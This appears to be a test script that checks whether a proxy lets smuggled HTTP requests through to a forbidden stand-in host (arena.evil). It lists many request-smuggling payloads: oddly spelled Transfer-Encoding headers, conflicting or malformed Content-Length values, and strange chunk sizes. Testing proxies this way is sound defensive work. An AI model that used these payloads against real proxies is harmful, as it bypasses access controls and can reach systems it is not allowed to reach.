"""Smuggles a request past the proxy in the body of another: two lengths, a length beside chunks, chunks spelled oddly.

group: proxy
effect: connects
allow: web.example.com:80
asks: web.example.com
reaches: tcp 93.184.216.34:80
"""
hidden = f"GET http://{arena.evil}/ HTTP/1.1\r\nHost: {arena.evil}\r\n\r\n"
chunked = f"{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n"
head = "POST http://web.example.com/digest HTTP/1.1\r\nHost: web.example.com\r\n"
SPELLINGS = ("Transfer-Encoding: chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding:\x0bchunked", "X: y\nTransfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked")
for spelling in SPELLINGS:
    ask_proxy(f"{head}Content-Length: 0\r\n{spelling}\r\n\r\n{hidden}")
    ask_proxy(f"{head}{spelling}\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{hidden}")
    ask_proxy(f"{head}{spelling}\r\n\r\n0\r\n\r\n", hidden)
for lengths in ("Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0", "Content-Length: +0", "Content-Length: 0, {n}", "Content-Length: 0x0", "Content-Length: -1", "Content-Length: 00", "Content-Length: 18446744073709551616"):
    ask_proxy(f"{head}{lengths.format(n=len(hidden))}\r\n\r\n{hidden}")
for size in (f"{len(hidden):x};a=\r\n", "0x0\r\n", "0\n", "-1\r\n", "ffffffffffffffff0\r\n", "0 \r\n"):
    ask_proxy(f"{head}Transfer-Encoding: chunked\r\n\r\n{size}{hidden}\r\n0\r\n\r\n{hidden}")
